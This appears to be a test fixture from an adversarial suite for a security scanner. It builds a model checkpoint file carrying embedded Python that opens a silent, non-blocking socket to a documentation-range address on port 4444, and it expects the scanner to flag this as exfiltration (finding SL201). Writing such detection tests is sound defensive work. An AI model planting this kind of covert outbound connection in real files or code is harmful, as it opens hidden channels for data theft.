"""Class: exfiltration. A non-blocking connection that is never waited for."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, PORT, checkpoint, run

EXPECT = {"address": ADDRESS, "port": PORT, "finding": "SL201"}


def make(folder: Path) -> Path:
    source = "import socket; s = socket.socket(); s.setblocking(False); s.connect_ex(('203.0.113.7', 4444))"
    return checkpoint(folder, run(source))
